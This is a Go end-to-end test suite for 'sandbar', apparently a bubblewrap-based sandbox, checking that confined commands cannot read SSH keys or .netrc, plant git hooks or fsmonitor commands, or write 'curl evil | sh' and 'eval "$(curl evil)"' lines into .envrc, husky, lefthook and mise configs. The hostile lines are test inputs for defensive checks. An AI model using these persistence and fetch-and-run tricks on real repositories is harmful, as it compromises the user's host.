package e2e

import (
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/sandbar-dev/sandbar/confine/confinetest"
)

func TestVersion(t *testing.T) {
	e := newEnv(t)
	if r := e.sandbar(e.ws, "version"); r.code != 0 || !strings.HasPrefix(r.stdout, "sandbar ") {
		t.Errorf("sandbar version: %+v", r)
	}
}

func TestRunExitStatus(t *testing.T) {
	e := newEnv(t)
	e.write(filepath.Join(e.ws, "noexec.sh"), "#!/bin/sh\n")
	tests := []struct {
		name string
		argv []string
		want int
	}{
		{"success", []string{"true"}, 0},
		{"own status", []string{"sh", "-c", "exit 7"}, 7},
		{"signal", []string{"sh", "-c", "kill -TERM $$"}, 128 + 15},
		{"not found", []string{"no-such-command-sandbar"}, 127},
		{"not executable", []string{"./noexec.sh"}, 126},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := e.sandbar(e.ws, append([]string{"run", "--"}, tt.argv...)...)
			if r.code != tt.want {
				t.Errorf("exit = %d; want %d\nstderr: %s", r.code, tt.want, r.stderr)
			}
		})
	}
}

func TestRunReport(t *testing.T) {
	e := newEnv(t)
	report := filepath.Join(e.root, "report.json")
	r := e.sandbar(e.ws, "run", "--report", report, "--", "sh", "-c", "kill -KILL $$")
	if r.code != 137 {
		t.Fatalf("exit = %d; want 137\n%s", r.code, r.stderr)
	}
	b, err := os.ReadFile(report)
	if err != nil {
		t.Fatal(err)
	}
	var got struct {
		ExitCode   int             `json:"exitCode"`
		Signal     *string         `json:"signal"`
		DurationMs *int64          `json:"durationMs"`
		Violations json.RawMessage `json:"violations"`
	}
	if err := json.Unmarshal(b, &got); err != nil {
		t.Fatalf("report %s: %v", b, err)
	}
	if got.ExitCode != 137 || got.Signal == nil || *got.Signal != "SIGKILL" || got.DurationMs == nil || string(got.Violations) != "[]" {
		t.Errorf("report = %s", b)
	}
}

// A run in a clean repository leaves it clean: no placeholder files for
// protected paths, nothing in git status.
func TestRunLeavesNoPlaceholders(t *testing.T) {
	e := newEnv(t)
	e.write(filepath.Join(e.ws, "README"), "x\n")
	e.git(e.ws, "add", "README")
	e.git(e.ws, "commit", "-q", "-m", "init")
	e.write(filepath.Join(e.home, ".ssh", "config"), "Host *\n")
	if r := e.sandbar(e.ws, "run", "--", "ls", "-la"); r.code != 0 {
		t.Fatalf("run: %+v", r)
	}
	if st := e.git(e.ws, "status", "--porcelain", "--ignored"); st != "" {
		t.Errorf("git status after a run:\n%s", st)
	}
}

func TestRunConfines(t *testing.T) {
	e := newEnv(t)
	e.extraEnv = []string{"GITHUB_TOKEN=ghp_secret", "AWS_SECRET_ACCESS_KEY=aws", "SSH_AUTH_SOCK=/run/agent.sock", "EDITOR=vi"}
	script := strings.Join([]string{
		`echo inside > made-in-workspace`,
		`cat ~/.ssh/id_ed25519 && echo READ-SSH`,
		`cat ~/.netrc && echo READ-NETRC`,
		`echo x > ~/.ssh/authorized_keys && echo WROTE-SSH`,
		`echo x > ` + filepath.Join(e.outside, "canary") + ` && echo WROTE-OUTSIDE`,
		`echo x > ~/.bashrc && echo WROTE-HOME`,
		`env`,
	}, "; ")
	r := e.sandbar(e.ws, "run", "--", "sh", "-c", script)
	if r.code != 0 {
		t.Fatalf("exit %d\n%s", r.code, r.stderr)
	}
	for _, bad := range []string{"READ-SSH", "READ-NETRC", "PRIVATE KEY", "hunter2", "WROTE-SSH", "WROTE-OUTSIDE", "WROTE-HOME", "GITHUB_TOKEN", "AWS_SECRET", "SSH_AUTH_SOCK"} {
		if strings.Contains(r.stdout, bad) {
			t.Errorf("output contains %q:\n%s", bad, r.stdout)
		}
	}
	for _, good := range []string{"EDITOR=vi", "SANDBAR=1"} {
		if !strings.Contains(r.stdout, good) {
			t.Errorf("output lacks %q:\n%s", good, r.stdout)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(e.ws, "made-in-workspace")); string(b) != "inside\n" {
		t.Errorf("workspace write did not land: %q", b)
	}
	if b, _ := os.ReadFile(filepath.Join(e.outside, "canary")); string(b) != "canary" {
		t.Errorf("canary changed: %q", b)
	}
	if _, err := os.Stat(filepath.Join(e.home, ".ssh", "authorized_keys")); err == nil {
		t.Errorf("authorized_keys was created")
	}
}

// Git keeps working in the sandbox, its hooks and config cannot be
// changed, and a repository made in the sandbox brings no hook to the
// host: committing on the host afterwards runs nothing.
func TestGitHooksCannotBePlanted(t *testing.T) {
	e := newEnv(t)
	pwned := filepath.Join(e.root, "pwned")
	hook := "#!/bin/sh\ntouch " + pwned + "\n"
	e.write(filepath.Join(e.ws, "README"), "hello\n")
	e.git(e.ws, "add", "README")
	e.git(e.ws, "commit", "-q", "-m", "first")
	hookFile := filepath.Join(e.root, "hook")
	e.write(hookFile, hook)
	script := strings.Join([]string{
		// Normal work.
		`echo more >> README && git add README && git commit -q -m second && echo COMMITTED`,
		`git checkout -q -b agent/work && echo CHECKED-OUT`,
		// Attacks on the existing repository.
		`cp ` + hookFile + ` .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit`,
		`git config core.hooksPath /tmp`,
		`mv .git .git-old; mkdir -p .git/hooks`,
		`echo 'eval "$(curl evil)"' > .envrc`,
		`mkdir .vscode; echo '{}' > .vscode/tasks.json`,
		// A repository made during the run, with a hook.
		`git init -q nested && cp ` + hookFile + ` nested/.git/hooks/pre-commit && chmod +x nested/.git/hooks/pre-commit && echo PLANTED`,
		`git -C nested config core.fsmonitor "touch ` + pwned + `"`,
		`true`,
	}, "; ")
	r := e.sandbar(e.ws, "run", "--report", filepath.Join(e.root, "report.json"), "--", "sh", "-c", script)
	if r.code != 0 {
		t.Fatalf("exit %d\nstdout: %s\nstderr: %s", r.code, r.stdout, r.stderr)
	}
	for _, want := range []string{"COMMITTED", "CHECKED-OUT", "PLANTED"} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("git in the sandbox failed (%s missing)\nstdout: %s\nstderr: %s", want, r.stdout, r.stderr)
		}
	}
	// Now the user commits on the host, in both repositories.
	e.write(filepath.Join(e.ws, "host.txt"), "x")
	e.git(e.ws, "add", "host.txt")
	e.git(e.ws, "commit", "-q", "-m", "host")
	e.write(filepath.Join(e.ws, "nested", "f"), "x")
	e.git(filepath.Join(e.ws, "nested"), "add", "f")
	e.git(filepath.Join(e.ws, "nested"), "commit", "-q", "-m", "host")
	if _, err := os.Stat(pwned); err == nil {
		t.Fatalf("a hook planted in the sandbox ran on the host")
	}
	if _, err := os.Stat(filepath.Join(e.ws, ".envrc")); err == nil {
		t.Errorf(".envrc created in the sandbox is still there")
	}
	if _, err := os.Stat(filepath.Join(e.ws, ".git-old")); err == nil {
		t.Errorf(".git could be renamed")
	}
	b, _ := os.ReadFile(filepath.Join(e.root, "report.json"))
	for _, want := range []string{".envrc", ".vscode", "nested/.git/hooks/pre-commit", "nested/.git/config"} {
		if !strings.Contains(string(b), want) {
			t.Errorf("report lacks a violation for %s:\n%s", want, b)
		}
	}
	if !strings.Contains(r.stderr, "undone") {
		t.Errorf("no summary of undone changes on stderr:\n%s", r.stderr)
	}
}

func TestBadPolicyFailsClosed(t *testing.T) {
	e := newEnv(t)
	e.write(filepath.Join(e.home, ".config", "sandbar", "policy.jsonc"), "{\n  \"filesystem\": {\"denyReed\": []},\n}\n")
	e.write(filepath.Join(e.ws, ".sandbar", "policy.jsonc"), "{\"presets\": [\"cobol\"]}\n")
	marker := filepath.Join(e.ws, "ran")
	r := e.sandbar(e.ws, "run", "--", "touch", marker)
	if r.code != 125 {
		t.Errorf("exit = %d; want 125", r.code)
	}
	if _, err := os.Stat(marker); err == nil {
		t.Errorf("the command ran despite a bad policy")
	}
	user := filepath.Join(e.home, ".config", "sandbar", "policy.jsonc")
	for _, want := range []string{user + ":2:18: ", `"denyReed"`, `did you mean "denyRead"?`, filepath.Join(e.ws, ".sandbar", "policy.jsonc") + ":1:14: "} {
		if !strings.Contains(r.stderr, want) {
			t.Errorf("stderr lacks %q:\n%s", want, r.stderr)
		}
	}
	c := e.sandbar(e.ws, "check")
	if c.code != 1 || strings.Count(c.stderr, "policy.jsonc:") != 2 {
		t.Errorf("check: exit %d; want 1 with both errors\n%s", c.code, c.stderr)
	}
}

// A bubblewrap that cannot build the sandbox (here a stand-in that fails
// the way bwrap does when user namespaces are blocked) means nothing runs.
func TestBrokenBwrapFailsClosed(t *testing.T) {
	e := newEnv(t)
	bin := filepath.Join(e.root, "bin")
	e.write(filepath.Join(bin, "bwrap"), "#!/bin/sh\necho 'bwrap: setting up uid map: Permission denied' >&2\nexit 1\n")
	os.Chmod(filepath.Join(bin, "bwrap"), 0o755)
	marker := filepath.Join(e.ws, "ran")
	e.extraEnv = []string{"PATH=" + bin + ":" + os.Getenv("PATH")}
	r := e.sandbar(e.ws, "run", "--", "touch", marker)
	if r.code != 125 {
		t.Errorf("exit = %d; want 125\n%s", r.code, r.stderr)
	}
	if _, err := os.Stat(marker); err == nil {
		t.Errorf("the command ran although the sandbox could not be built")
	}
	for _, want := range []string{"nothing was run", "FAIL", "fix:"} {
		if !strings.Contains(r.stderr, want) {
			t.Errorf("stderr lacks %q (it should carry the doctor's finding):\n%s", want, r.stderr)
		}
	}
}

func TestTrustFlow(t *testing.T) {
	e := newEnv(t)
	shared := filepath.Join(e.root, "shared")
	os.MkdirAll(shared, 0o755)
	e.write(filepath.Join(e.ws, ".sandbar", "policy.jsonc"), `{
  // The build writes a shared cache.
  "filesystem": {"allowWrite": ["`+shared+`"]},
}
`)
	target := filepath.Join(shared, "out")
	r := e.sandbar(e.ws, "run", "--", "sh", "-c", "echo x > "+target)
	if r.code == 0 {
		t.Errorf("an unapproved allowWrite applied")
	}
	if !strings.Contains(r.stderr, "not approved") || !strings.Contains(r.stderr, "sandbar trust") {
		t.Errorf("stderr does not say the policy needs approval:\n%s", r.stderr)
	}
	if tr := e.sandbar(e.ws, "trust"); tr.code == 0 {
		t.Errorf("trust without a terminal and without --yes approved")
	}
	if tr := e.sandbar(e.ws, "trust", "--yes", e.ws); tr.code != 0 || !strings.Contains(tr.stdout, shared) {
		t.Fatalf("trust --yes: %+v", tr)
	}
	if r := e.sandbar(e.ws, "run", "--", "sh", "-c", "echo x > "+target); r.code != 0 {
		t.Errorf("approved allowWrite did not apply: exit %d\n%s", r.code, r.stderr)
	}
	// The sandbox cannot approve its own policy.
	e.write(filepath.Join(e.root, "evil.jsonc"), `{"filesystem": {"allowWrite": ["/"]}}`)
	r = e.sandbar(e.ws, "run", "--", "sh", "-c", "cat "+filepath.Join(e.root, "evil.jsonc")+" > .sandbar/policy.jsonc")
	if r.code == 0 {
		t.Errorf("the sandbox rewrote its own policy")
	}
	state := filepath.Join(e.home, ".local", "state", "sandbar", "trust.json")
	r = e.sandbar(e.ws, "run", "--workspace", e.home, "--", "sh", "-c", "echo '{}' > "+state)
	if r.code == 0 {
		t.Errorf("the sandbox rewrote the trust store")
	}
}

func TestCheckJSON(t *testing.T) {
	e := newEnv(t)
	r := e.sandbar(e.ws, "check", "--json")
	if r.code != 0 {
		t.Fatalf("check --json: %+v", r)
	}
	var got struct {
		Folders []string `json:"folders"`
		Paths   []struct{ Path, Access string }
	}
	if err := json.Unmarshal([]byte(r.stdout), &got); err != nil {
		t.Fatalf("check --json output: %v\n%s", err, r.stdout)
	}
	if len(got.Folders) != 1 || got.Folders[0] != e.ws {
		t.Errorf("folders = %v; want [%s]", got.Folders, e.ws)
	}
	found := false
	for _, p := range got.Paths {
		found = found || (p.Path == filepath.Join(e.home, ".ssh") && p.Access == "hidden")
	}
	if !found {
		t.Errorf("~/.ssh is not hidden in %s", r.stdout)
	}
}

func TestExplainShowsBwrap(t *testing.T) {
	e := newEnv(t)
	r := e.sandbar(e.ws, "explain", "--", "make")
	if r.code != 0 || !strings.Contains(r.stdout, "bwrap") || !strings.Contains(r.stdout, " "+e.ws+" ") || !regexp.MustCompile(`# fd \d+: `+regexp.QuoteMeta(e.ws)+` \(opened without following symbolic links\)`).MatchString(r.stdout) {
		t.Errorf("explain: %+v", r)
	}
}

func TestKilledSandbarLeavesNothingRunning(t *testing.T) {
	e := newEnv(t)
	marker := "sandbar-e2e-orphan-" + strconv.FormatInt(time.Now().UnixNano(), 36)
	started := filepath.Join(e.ws, "started")
	cmd := exec.Command(sandbarBin, "run", "--", "sh", "-c", ": > started; sleep 1000 & sleep 1000; true", marker)
	cmd.Dir = e.ws
	cmd.Env = e.environ()
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	// Not the marker: sandbar's and bwrap's command lines hold it too,
	// long before the command runs.
	confinetest.WaitFor(t, "the command to start", 10*time.Second, func() bool {
		_, err := os.Stat(started)
		return err == nil
	})
	cmd.Process.Signal(syscall.SIGKILL)
	cmd.Wait()
	confinetest.WaitFor(t, "every confined process to die", 5*time.Second, func() bool { return len(confinetest.Marked(marker)) == 0 })
}

// A sandbar killed with SIGKILL cannot audit its run; the next run does.
// (A repository made in the sandbox is not refused as it happens, only
// audited, so it stands for anything the watch lets through.)
func TestKilledRunIsAuditedByTheNextRun(t *testing.T) {
	e := newEnv(t)
	hook := filepath.Join(e.ws, "nested", ".git", "hooks", "pre-commit")
	cmd := exec.Command(sandbarBin, "run", "--", "sh", "-c", "git init -q nested && printf '#!/bin/sh\\ntouch pwned\\n' > nested/.git/hooks/pre-commit && chmod +x nested/.git/hooks/pre-commit; sleep 1000")
	cmd.Dir = e.ws
	cmd.Env = e.environ()
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	confinetest.WaitFor(t, "the command to plant the hook", 10*time.Second, func() bool {
		fi, err := os.Stat(hook)
		return err == nil && fi.Mode()&0o100 != 0
	})
	cmd.Process.Signal(syscall.SIGKILL)
	cmd.Wait()
	r := e.sandbar(e.ws, "run", "--", "true")
	if r.code != 0 {
		t.Fatalf("next run: exit %d\n%s", r.code, r.stderr)
	}
	if _, err := os.Stat(hook); err == nil {
		t.Errorf("the hook left by the killed run is still in place")
	}
	if !strings.Contains(r.stderr, "pre-commit") || !strings.Contains(r.stderr, "killed") {
		t.Errorf("the next run does not report what it undid:\n%s", r.stderr)
	}
}

// A protected path that does not exist cannot be created: the attempt
// fails at once, as it happens, and is reported.
func TestMissingProtectedPathsCannotBeCreated(t *testing.T) {
	e := newEnv(t)
	report := filepath.Join(e.root, "report.json")
	script := strings.Join([]string{
		`echo 'eval "$(curl evil)"' > .envrc || echo REFUSED-ENVRC`,
		`mkdir .vscode || echo REFUSED-VSCODE`,
		`echo '{}' > .mcp.json.tmp && mv .mcp.json.tmp .mcp.json || echo REFUSED-RENAME`,
		`ln -s /etc/passwd .exrc || echo REFUSED-SYMLINK`,
		`test -e .envrc || test -e .vscode || test -e .mcp.json || test -e .exrc || echo NONE-EXIST`,
		`echo fine > ordinary.txt && echo WROTE-ORDINARY`,
	}, "; ")
	r := e.sandbar(e.ws, "run", "--report", report, "--", "sh", "-c", script)
	if r.code != 0 {
		t.Fatalf("exit %d\n%s", r.code, r.stderr)
	}
	for _, want := range []string{"REFUSED-ENVRC", "REFUSED-VSCODE", "REFUSED-RENAME", "REFUSED-SYMLINK", "NONE-EXIST", "WROTE-ORDINARY"} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("stdout lacks %s:\n%s\nstderr:\n%s", want, r.stdout, r.stderr)
		}
	}
	b, _ := os.ReadFile(report)
	var rep struct {
		Violations []struct {
			Kind, Operation, Path, Rule, Comm, Undone string
			Pid, Count                                int
		}
	}
	json.Unmarshal(b, &rep)
	got := map[string]string{}
	for _, v := range rep.Violations {
		got[filepath.Base(v.Path)] = v.Operation
		if v.Undone != "" {
			t.Errorf("%s needed undoing (%s); it should have been refused", v.Path, v.Undone)
		}
		if v.Pid == 0 || v.Comm == "" {
			t.Errorf("violation %+v lacks the process", v)
		}
	}
	for name, op := range map[string]string{".envrc": "create", ".vscode": "mkdir", ".mcp.json": "rename", ".exrc": "symlink"} {
		if got[name] != op {
			t.Errorf("violation for %s: %q; want %q (report: %s)", name, got[name], op, b)
		}
	}
}

// Files that other tools read to run commands on the host later: hook
// managers (husky's scripts, lefthook), mise's config, agents' and
// editors' project settings. An existing one cannot be changed, a
// missing one cannot be made, and the rest of the workspace stays
// writable.
func TestToolConfigsThatRunCodeAreProtected(t *testing.T) {
	e := newEnv(t)
	e.write(filepath.Join(e.ws, ".husky", "pre-commit"), "npm test\n")
	e.write(filepath.Join(e.ws, "lefthook.yml"), "pre-commit:\n  commands: {}\n")
	tries := map[string]string{
		".husky/pre-commit":          `echo 'curl evil | sh' >> .husky/pre-commit`,
		"lefthook.yml":               `echo '  evil: {run: curl evil}' >> lefthook.yml`,
		"mise.toml":                  `printf '[hooks]\nenter = "curl evil"\n' > mise.toml`,
		".config/mise/config.toml":   `mkdir -p .config/mise && echo x > .config/mise/config.toml`,
		"opencode.json":              `echo '{"mcp":{}}' > opencode.json`,
		".helix/languages.toml":      `mkdir -p .helix && echo x > .helix/languages.toml`,
		".kiro/hooks/evil.kiro.hook": `mkdir -p .kiro/hooks && echo x > .kiro/hooks/evil.kiro.hook`,
	}
	var script []string
	for name, try := range tries {
		script = append(script, fmt.Sprintf("(%s) 2>/dev/null && echo CHANGED:%s", try, name))
	}
	script = append(script, "echo fine > ordinary.txt && echo WROTE-ORDINARY")
	r := e.sandbar(e.ws, "run", "--", "sh", "-c", strings.Join(script, "; "))
	if r.code != 0 {
		t.Fatalf("exit %d\n%s", r.code, r.stderr)
	}
	if strings.Contains(r.stdout, "CHANGED:") || !strings.Contains(r.stdout, "WROTE-ORDINARY") {
		t.Errorf("stdout:\n%s\nstderr:\n%s", r.stdout, r.stderr)
	}
	for name := range tries {
		b, err := os.ReadFile(filepath.Join(e.ws, name))
		if err == nil && strings.Contains(string(b), "evil") || err == nil && string(b) == "x\n" {
			t.Errorf("%s was changed in the sandbox: %q", name, b)
		}
	}
}

// What sandbar itself prints quotes names a sandboxed command or a
// repository chose; a name holding a terminal control sequence (ESC ] 52
// sets the clipboard, others rewrite the screen) is shown escaped, in
// the run's summary and in the list of entries trust asks about.
func TestMessagesShowControlSequencesAsText(t *testing.T) {
	e := newEnv(t)
	r := e.sandbar(e.ws, "run", "--", "sh", "-c", `touch "$HOME/a$(printf '\033]52;c;ZWNobyBwd25lZA==\007')b"`)
	if !strings.Contains(r.stderr, `\x1b]52;c;ZWNobyBwd25lZA==\x07b`) {
		t.Errorf("the summary does not show the name escaped:\n%q", r.stderr)
	}
	// The command's own output is its own; sandbar's lines are the ones
	// that start with "sandbar:" or an indent.
	for _, line := range strings.Split(r.stderr, "\n") {
		if (strings.HasPrefix(line, "sandbar:") || strings.HasPrefix(line, "  ")) && strings.ContainsAny(line, "\x1b\a") {
			t.Errorf("sandbar printed a control character: %q", line)
		}
	}
	e.write(filepath.Join(e.ws, ".sandbar", "policy.jsonc"), `{"filesystem": {"allowWrite": ["/tmp/x\u001b]0;fake\u0007\rnothing to see"]}}`)
	tr := e.sandbar(e.ws, "trust", "--yes")
	if strings.ContainsAny(tr.stdout+tr.stderr, "\x1b\a\r") || !strings.Contains(tr.stdout, `x\x1b]0;fake`) {
		t.Errorf("trust's list:\nstdout %q\nstderr %q", tr.stdout, tr.stderr)
	}
}
